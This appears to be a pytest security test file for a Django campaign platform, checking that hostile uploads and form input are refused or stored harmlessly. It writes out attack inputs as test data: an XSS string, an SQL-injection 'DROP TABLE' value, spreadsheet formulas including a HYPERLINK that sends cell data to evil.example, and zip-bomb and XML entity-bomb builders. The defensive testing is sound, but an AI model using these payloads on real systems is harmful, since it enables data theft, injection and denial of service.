"""VERIFY bad_inputs: hostile and broken input through the uploads and forms.

Each input is either refused with a clear message (a 4xx whose body names the
problem) and then the campaign's database is byte for byte what it was before, or it
is stored harmlessly: HTML and scripts come back escaped wherever they are shown
(pages, the map's GeoJSON is data, e-mails), emoji and right-to-left names survive
the round trip, SQL-looking strings are only text, and spreadsheet exports neutralise
formulas.
"""

import csv
import io
import json
import os
import uuid
import zipfile

import pytest
from django.core import mail
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.utils import timezone
from django_tenants.utils import tenant_context

from tests.verify.conftest import client_as
from tests.verify.recorder import check
from tests.verify.test_tenant_isolation import body_of

XSS = '<script>alert("xss")</script><img src=x onerror=alert(1)>'
NAMES = ["Zoë 👩\u200d🌾 Lefèvre", "דוד כהן", "مريم العلي", "Ŝtefan Ćosić-Ørsted"]
SQLISH = "Robert'); DROP TABLE crm_contact;--"
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Cliquez")', "+33 1 23", "-2+3", "@SUM(A1:A9)"]


@pytest.fixture(scope="module")
def world(worlds):
    return worlds[2]


def fingerprint(schema):
    """Every table of the campaign: row count and a digest of its rows (sessions aside:
    signing in writes them)."""
    out = {}
    with connection.cursor() as cursor:
        cursor.execute("SELECT tablename FROM pg_tables WHERE schemaname = %s ORDER BY 1", [schema])
        for (table,) in cursor.fetchall():
            if table in {"django_session", "spatial_ref_sys"}:
                continue
            cursor.execute(
                f"SELECT count(*), coalesce(md5(string_agg(md5(t::text), ',' ORDER BY md5(t::text))), '') "  # noqa: S608
                f'FROM "{schema}"."{table}" t'
            )
            out[table] = cursor.fetchone()
    return out


def changed(before, after):
    return sorted(t for t in before.keys() | after.keys() if before.get(t) != after.get(t))


def upload(name, content):
    return SimpleUploadedFile(name, content)


def zip_bomb():
    """An .xlsx-named zip whose sheet unpacks to 1 GiB of spaces (about 1 MB packed)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet:
            chunk = b" " * (1 << 20)
            for _ in range(1024):
                sheet.write(chunk)
    return buffer.getvalue()


def entity_bomb(part):
    """A real workbook whose `part` declares nested entities that would expand to 10 GB
    ("billion laughs") and uses the last one."""
    from openpyxl import Workbook

    book = io.BytesIO()
    sheet = Workbook()
    sheet.active.append(["Nom", "Prénom"])
    sheet.save(book)
    entities = '<!ENTITY a "aaaaaaaaaa">' + "".join(
        f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(9)
    )
    buffer = io.BytesIO()
    with zipfile.ZipFile(book) as source, zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for item in source.infolist():
            data = source.read(item.filename).decode()
            if item.filename == part:
                declaration, body = data.split("?>", 1) if data.startswith("<?xml") else ("", data)
                root = body.index(">", body.index("<")) + 1  # the root element's opening tag
                data = (
                    (f"{declaration}?>" if declaration else "")
                    + f"<!DOCTYPE r [{entities}]>"
                    + body[:root]
                    + "&j;"
                    + body[root:]
                )
            archive.writestr(item, data)
    return buffer.getvalue()


def big_file(path, size=200 * 1024 * 1024):
    with open(path, "wb") as fh:
        block = b"A" * (1 << 20)
        for _ in range(size // len(block)):
            fh.write(block)
    return path


def geojson(features, crs=None):
    data = {"type": "FeatureCollection", "features": features}
    if crs:
        data["crs"] = {"type": "name", "properties": {"name": crs}}
    return json.dumps(data).encode()


def feature(coords, name="Z"):
    return {"type": "Feature", "properties": {"nom": name, "code": name},
            "geometry": {"type": "Polygon", "coordinates": [coords]}}  # fmt: skip


SQUARE = [[1.9, 47.9], [1.91, 47.9], [1.91, 47.91], [1.9, 47.91], [1.9, 47.9]]


def refusals(tmp_path):
    """(what, method, path, data) of inputs that must be refused."""
    big = big_file(tmp_path / "big.csv")
    huge_ring = [[1.9 + 0.01 * (i % 2), 47.9 + i * 1e-7] for i in range(1_000_100)] + [[1.9, 47.9]]
    yield "empty CSV", "/api/imports/preview/", {"file": upload("vide.csv", b"")}
    yield "binary file named .csv", "/api/imports/", {"file": upload("photo.csv", b"\x89PNG\r\n\x1a\n\x00\x00" * 50)}
    yield "UTF-16 without separators", "/api/imports/", {"file": upload("u16.csv", "nom\nDupont\n".encode("utf-16"))}
    yield "zip bomb named .xlsx", "/api/imports/", {"file": upload("liste.xlsx", zip_bomb())}
    yield "broken .xlsx", "/api/imports/", {"file": upload("liste.xlsx", b"PK\x03\x04" + os.urandom(2000))}
    for part in ("xl/workbook.xml", "xl/worksheets/sheet1.xml"):
        yield f"entity bomb in {part}", "/api/imports/", {"file": upload("liste.xlsx", entity_bomb(part))}
    yield "200 MB without a line break", "/api/imports/", {"file": open(big, "rb")}  # noqa: SIM115
    yield "200 MB zone file", "/api/zones/import/", {"file": open(big, "rb")}  # noqa: SIM115
    yield "200 MB indicators", "/api/zones/indicators/", {"file": open(big, "rb")}  # noqa: SIM115
    yield "zones: not JSON", "/api/zones/import/", {"file": upload("z.geojson", b"{nope")}
    yield "zones: JSON, not GeoJSON", "/api/zones/import/", {"file": upload("z.geojson", b'{"a": 1}')}
    yield (
        "zones: Lambert 93 without its crs", "/api/zones/import/",
        {"file": upload("z.geojson", geojson([feature([[619000, 6800000], [620000, 6800000], [620000, 6801000],
                                                       [619000, 6800000]])]))},
    )  # fmt: skip
    yield (
        "zones: longitude 500 in declared WGS 84", "/api/zones/import/",
        {"file": upload("z.geojson", geojson([feature([[500, 47.9], [501, 47.9], [501, 48], [500, 47.9]])],
                                             crs="urn:ogc:def:crs:OGC:1.3:CRS84"))},
    )  # fmt: skip
    yield (
        "zones: a point",
        "/api/zones/import/",
        {
            "file": upload(
                "z.geojson",
                geojson(
                    [{"type": "Feature", "properties": {}, "geometry": {"type": "Point", "coordinates": [1.9, 47.9]}}]
                ),
            )
        },
    )
    yield (
        "zones: a million-point outline",
        "/api/zones/import/",
        {"file": upload("z.geojson", geojson([feature(huge_ring)]))},
    )
    yield (
        "zones: a code of 60 characters",
        "/api/zones/import/",
        {"file": upload("z.geojson", geojson([feature(SQUARE, "C" * 60)]))},
    )
    yield "indicators: no code column", "/api/zones/indicators/", {"file": upload("i.csv", b"foo;bar\n1;2\n")}
    yield (
        "indicators: text where a number goes",
        "/api/zones/indicators/",
        {"file": upload("i.csv", b"code;inscrits\nDEMO;beaucoup\n")},
    )


def test_broken_and_hostile_files_are_refused_with_a_message_and_change_nothing(world, unblocked, tmp_path):
    admin = client_as(world, "admin")
    schema = world.campaign.schema_name
    with check("bad_inputs") as c:
        for what, path, data in refusals(tmp_path):
            before = fingerprint(schema)
            response = admin.post(path, data)
            after = fingerprint(schema)
            body = body_of(response)
            message = ""
            if response.headers.get("Content-Type", "").startswith("application/json"):
                message = " ".join(str(v) for v in json.loads(body).values())
            c.probe(
                response.status_code == 400 and len(message) > 10,
                f"{what} on {path}: {response.status_code} {message[:200]!r}",
            )
            c.probe(not changed(before, after), f"{what} on {path}: tables changed {changed(before, after)}")


def test_self_intersecting_zone_is_repaired_with_a_warning(world, unblocked):
    bowtie = [[1.9, 47.9], [1.91, 47.91], [1.91, 47.9], [1.9, 47.91], [1.9, 47.9]]
    with check("bad_inputs") as c:
        file = upload("z.geojson", geojson([feature(bowtie, "NOEUD")]))
        r = client_as(world, "admin").post("/api/zones/import/", {"file": file})
        c.probe(r.status_code == 200 and r.json()["warnings"], f"bow-tie zone: {r.status_code} {body_of(r)[:200]}")


def test_hostile_text_is_stored_as_text_and_escaped_where_shown(world, unblocked):
    from participation.models import Step

    citizen = client_as(world, "citizen")
    admin = client_as(world, "admin")
    with tenant_context(world.campaign):
        collect = Step.objects.filter(kind=Step.Kind.COLLECT, project__slug__endswith=f"-{world.tag}").first()
        theme = (collect.config.get("themes") or [""])[0]
    with check("bad_inputs") as c:
        made = citizen.post("/api/proposals/", json.dumps({"step": collect.pk, "title": XSS[:150], "body": XSS,
                                                           "theme": theme, "latitude": 47.9, "longitude": 1.9}),
                            content_type="application/json")  # fmt: skip
        c.probe(made.status_code == 201, f"proposal with HTML: {made.status_code} {body_of(made)[:200]}")
        proposal = made.json().get("id")
        help_post = citizen.post("/api/help/", json.dumps({"kind": "offer", "category": "Transport", "title": XSS[:100],
                                                           "body": XSS, "latitude": 47.9, "longitude": 1.9}),
                                 content_type="application/json")  # fmt: skip
        c.probe(
            help_post.status_code == 201, f"help post with HTML: {help_post.status_code} {body_of(help_post)[:200]}"
        )
        contact = admin.post("/api/contacts/", json.dumps({"first_names": XSS[:100], "birth_name": SQLISH}),
                             content_type="application/json")  # fmt: skip
        c.probe(contact.status_code == 201, f"contact with HTML: {contact.status_code} {body_of(contact)[:200]}")
        zone = admin.post("/api/zones/import/", {"file": upload("z.geojson", geojson([feature(SQUARE, XSS[:45])]))})
        c.probe(zone.status_code == 200, f"zone named with HTML: {zone.status_code}")
        pages = [f"/idees/{proposal}/", "/projets/", "/entraide/", f"/entraide/{help_post.json().get('id')}/",
                 "/equipe/contacts/", f"/equipe/contacts/{contact.json().get('id')}/", "/equipe/zones/",
                 "/equipe/site/moderation/", "/carte/", "/equipe/carte/"]  # fmt: skip
        # Pages that print the text themselves must show it, escaped.
        printed = {f"/idees/{proposal}/", f"/entraide/{help_post.json().get('id')}/",
                   f"/equipe/contacts/{contact.json().get('id')}/"}  # fmt: skip
        for path in pages:
            r = admin.get(path)
            body = body_of(r)
            c.probe(r.status_code == 200 and "<script>alert" not in body and "<img src=x" not in body,
                    f"GET {path}: {r.status_code}, raw HTML of a contribution in the page")  # fmt: skip
            if path in printed:
                c.probe("&lt;script&gt;alert" in body, f"GET {path}: the text is shown, escaped")
        for path in ("/api/public/contributions/?bbox=-5,40,10,55", "/entraide/annonces.geojson"):
            r = client_as(world).get(path)
            kind = r["Content-Type"]
            c.probe(r.status_code == 200 and kind.startswith("application/"),
                    f"GET {path}: data for the map is JSON, not a page: {r.status_code} {kind}")  # fmt: skip
        searched = admin.get("/api/contacts/", {"search": SQLISH})
        c.probe(searched.status_code == 200 and searched.json()["count"] >= 1,
                f"search for an SQL-looking string: {searched.status_code}")  # fmt: skip
        with tenant_context(world.campaign):
            from crm.models import Contact

            c.probe(Contact.objects.filter(birth_name=SQLISH).count() == 1, "the SQL-looking name is stored as text")


def test_emoji_and_right_to_left_names_survive_the_round_trip(world, unblocked):
    admin = client_as(world, "admin")
    with check("bad_inputs") as c:
        for name in NAMES:
            made = admin.post("/api/contacts/", json.dumps({"first_names": name, "birth_name": name}),
                              content_type="application/json")  # fmt: skip
            c.probe(made.status_code == 201, f"contact {name!r}: {made.status_code} {body_of(made)[:200]}")
            if made.status_code != 201:
                continue
            back = admin.get(f"/api/contacts/{made.json()['id']}/").json()
            c.probe(back["first_names"] == name and back["birth_name"] == name, f"{name!r} came back as {back}")
            page = body_of(admin.get(f"/equipe/contacts/{made.json()['id']}/"))
            c.probe(name in page, f"{name!r} shown on the contact page")


def test_formulas_in_cells_are_neutralised_in_every_export(world, unblocked):
    from openpyxl import load_workbook

    from crm.models import Contact, Segment, Tag

    with tenant_context(world.campaign):
        tag = Tag.objects.create(name=f"formules-{uuid.uuid4().hex[:6]}")
        for formula in FORMULAS:
            Contact.objects.create(first_names=formula, birth_name="Formule", email="f@example.org").tags.add(tag)
        segment = Segment.objects.create(name=f"Formules {tag.name}", filters={"tags": [tag.name]})
    admin = client_as(world, "admin")
    with check("bad_inputs") as c:
        r = admin.get(f"/api/segments/{segment.pk}/export/", {"file_format": "csv"})
        text = body_of(r).lstrip("\ufeff")
        rows = list(csv.reader(io.StringIO(text), delimiter=";" if text.count(";") > text.count(",") else ","))
        cells = [cell for row in rows[1:] for cell in row]
        for formula in FORMULAS:
            c.probe(formula not in cells and f"'{formula}" in cells, f"CSV export keeps {formula!r} as a formula")
        r = admin.get(f"/api/segments/{segment.pk}/export/", {"file_format": "xlsx"})
        sheet = load_workbook(io.BytesIO(r.content if not r.streaming else b"".join(r.streaming_content))).active
        # An XLSX cell is a formula only when it says so (data type "f"): each one must
        # be a text cell holding what was typed.
        types = {cell.value: cell.data_type for row in sheet.iter_rows(min_row=2) for cell in row}
        for formula in FORMULAS:
            c.probe(types.get(formula) == "s", f"XLSX export gives {formula!r} as {types.get(formula)!r}, not text")
        c.probe("f" not in types.values(), "XLSX export holds a formula cell")


def test_html_in_a_message_between_people_is_escaped_in_the_mail(world, unblocked, settings):
    from participation.aid.models import HelpPost

    with tenant_context(world.campaign):
        post = HelpPost.objects.filter(title__startswith="Entraide").first()
    mail.outbox.clear()
    with check("bad_inputs") as c:
        r = client_as(world, "organizer").post(f"/entraide/{post.pk}/ecrire/", {"body": XSS})
        c.probe(r.status_code in {200, 302}, f"writing to a mutual-aid post: {r.status_code}")
        c.probe(len(mail.outbox) >= 1, "the relay mail was sent")
        for message in mail.outbox:
            for html, _type in getattr(message, "alternatives", []):
                c.probe("<script>alert" not in html, f"raw HTML in the mail {message.subject!r}")
            c.probe(message.subject and "<script" not in message.subject, "subject without markup")


def test_out_of_range_coordinates_are_refused_everywhere(world, unblocked):
    from crm.field.models import Assignment

    citizen = client_as(world, "citizen")
    volunteer = client_as(world, "volunteer")
    with tenant_context(world.campaign):
        assignment = Assignment.objects.get(volunteer=world.users["volunteer"])
        address = assignment.turf.addresses.first()
    schema = world.campaign.schema_name
    with check("bad_inputs") as c:
        for what, client, path, payload in [
            ("help post at latitude 200", citizen, "/api/help/",
             {"kind": "offer", "category": "Transport", "title": "Loin", "body": "x", "latitude": 200, "longitude": 2}),
            ("report at longitude -400", volunteer, "/api/reports/",
             {"uuid": str(uuid.uuid4()), "action": assignment.action_id, "turf": assignment.turf_id,
              "address": address.pk, "result": "not_home", "done_at": timezone.now().isoformat(),
              "location": {"longitude": -400, "latitude": 47}}),
            ("report with a broken drawn route", volunteer, "/api/reports/",
             {"uuid": str(uuid.uuid4()), "action": assignment.action_id, "turf": assignment.turf_id,
              "result": "done", "done_at": timezone.now().isoformat(),
              "covered": {"type": "LineString", "coordinates": [[1, 2]]}}),
        ]:  # fmt: skip
            before = fingerprint(schema)
            r = client.post(path, json.dumps(payload), content_type="application/json")
            after = fingerprint(schema)
            c.probe(r.status_code == 400, f"{what}: {r.status_code} {body_of(r)[:200]}")
            c.probe(not changed(before, after), f"{what}: tables changed {changed(before, after)}")
